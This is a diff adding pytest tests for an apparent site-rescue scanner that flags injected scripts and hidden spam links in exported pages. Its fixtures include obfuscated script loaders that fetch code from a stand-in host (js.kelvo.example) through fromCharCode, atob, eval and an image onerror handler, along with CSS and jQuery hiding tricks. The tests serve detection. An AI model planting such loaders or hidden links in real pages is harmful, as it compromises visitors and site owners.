@@ -139,3 +139,67 @@ def test_a_script_that_a_post_calls_from_an_unknown_site_is_shown_and_an_embed_i
     found = [finding for each in rescue([tmp_path / "export.xml"]) for finding in each.quarantine]
     assert [each.kind for each in found if "js.kelvo.example" in each.text] == ["unsure"]
     assert [each.kind for each in found if "twitter" in each.text] == ["house"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"var s=document.createElement('script');s.src=String.fromCharCode({','.join(str(ord(sign)) for sign in 'https://js.kelvo.example/s.js')});document.head.appendChild(s);",
+        f"var e=document.createElement('scr'+'ipt');e.setAttribute('src',atob('{base64.b64encode(b'https://js.kelvo.example/s').decode()}'));",
+        f"window['eval'](window['atob']('{base64.b64encode(CODE.encode()).decode()}'))",
+    ],
+)
+def test_a_script_that_calls_another_by_an_address_in_disguise_is_an_intruder_s(script: str) -> None:
+    assert ("intruder", ("kelvo.example",)) in verdicts(page(after=f"<script>{script}</script>"))
+
+
+def test_a_script_in_an_address_is_read_like_any_other() -> None:
+    inner = f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))"
+    held = base64.b64encode(inner.encode()).decode()
+    assert ("intruder", ("kelvo.example",)) in verdicts(
+        page(after=f'<script src="data:text/javascript;base64,{held}"></script>')
+    )
+    harmless = base64.b64encode(b"var lazy = 1; window.addEventListener('load', start);").decode()
+    assert verdicts(page(after=f'<script src="data:text/javascript;base64,{harmless}"></script>')) == []
+
+
+def test_code_in_the_attributes_of_a_picture_is_read_too_and_its_words_are_counted_once() -> None:
+    code = f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))"
+    html = page(
+        after=f'<img src="x" onerror="{code}" alt="a quay"><button onclick="document.getElementById(1).focus()">Go</button>'
+    )
+    assert [kind for kind, _ in verdicts(html)] == ["intruder"]
+    told = rescue_text(html.encode(), "page.html")
+    assert told.tally is not None
+    assert told.tally.unaccounted == ""
+
+
+@pytest.mark.parametrize(
+    "style",
+    [
+        "position:absolute;clip:rect(455px,auto,auto,455px)",
+        "color:transparent",
+        "color: rgba(0,0,0,0)",
+        "transform:scale(0, 0)",
+    ],
+)
+def test_more_styles_that_hide(style: str) -> None:
+    assert ("intruder", ("kelvo.example",)) in verdicts(page(after=f'<div style="{style}">{LINK}</div>'))
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["jQuery('#k7x').css('display', 'none');", "$(\"#k7x\").css({'display':'none'})", "document.querySelector('#k7x').style.display = 'none'",
+     "document.getElementById('k7x').style.left='-5000px'"],
+)  # fmt: skip
+def test_more_ways_in_which_a_script_hides(script: str) -> None:
+    html = page(
+        after=f'<div id="k7x">{LINK}, <a href="https://kelvo.example/b">vasta plova mirno</a></div><script>{script}</script>'
+    )
+    assert ("intruder", ("kelvo.example",)) in verdicts(html)
+
+
+def test_a_moving_line_whose_style_has_no_size_is_hidden() -> None:
+    assert ("intruder", ("kelvo.example",)) in verdicts(
+        page(after=f'<marquee style="position:absolute;width:0px">{LINK}</marquee>')
+    )
